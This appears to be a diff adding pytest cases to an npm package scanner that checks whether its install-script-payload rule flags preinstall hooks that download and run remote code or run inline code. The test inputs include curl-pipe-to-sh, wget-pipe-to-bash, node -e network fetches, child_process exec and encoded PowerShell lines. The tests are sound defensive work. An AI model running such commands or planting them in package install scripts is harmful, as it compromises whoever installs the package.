@@ -46,3 +46,43 @@ def test_a_policy_inside_the_archive_cannot_lower_it() -> None:
     verdict = check(tgz(SCRIPTED, {".extgate.toml": inside}), options=Options(network=False, offline=True))
     (finding,) = [f for f in verdict.findings if f.rule_id == "manifest/install-script"]
     assert finding.level is Level.ERROR
+
+
+# -- manifest/install-script-payload ----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("script", "what"),
+    [
+        ("node -e \"require('https').get('https://x.example/p')\"", "`node -e` runs inline code"),
+        ("curl -fsSL https://get.example/i.sh | sh", "`sh` runs what was just downloaded"),
+        ("sh -c 'wget -qO- https://get.example/i | bash'", "`wget` downloads code at install time"),
+        ("FOO=1 node --eval \"require('child_process').exec('id')\"", "`node --eval` runs inline code that"),
+        ("echo $(curl -s https://get.example/v)", "`curl` downloads code at install time"),
+        ("npx some-helper@latest setup", "`npx` fetches and runs a package"),
+        ("powershell -enc SQBFAFgA", "`powershell -enc` runs inline code"),
+    ],
+)
+def test_inline_and_downloaded_install_code_is_an_error(script: str, what: str) -> None:
+    manifest = {**SCRIPTED, "scripts": {"preinstall": script}}
+    allow = Policy.from_mapping({"rules": {"manifest/install-script": {"level": "warning"}}}, "caller")
+    verdict = check(tgz(manifest), allow, options=Options(acknowledge_all=True, network=False, offline=True))
+    (finding,) = [f for f in verdict.findings if f.rule_id == "manifest/install-script-payload"]
+    assert finding.level is Level.ERROR and what in finding.message
+    assert finding.path == "package.json" and finding.properties["pointer"] == "/scripts/preinstall"
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "node scripts/setup.js",
+        "node-gyp rebuild",
+        "prebuild-install || node-gyp rebuild",
+        "husky install",
+        "node -e \"try{require('./postinstall')}catch(e){}\"",  # core-js: inline code that only loads a packaged file
+    ],
+)
+def test_scripts_that_run_packaged_files_are_not_payloads(script: str) -> None:
+    manifest = {**SCRIPTED, "scripts": {"install": script}}
+    verdict = check(tgz(manifest), options=Options(network=False, offline=True))
+    assert not [f for f in verdict.findings if f.rule_id == "manifest/install-script-payload"]
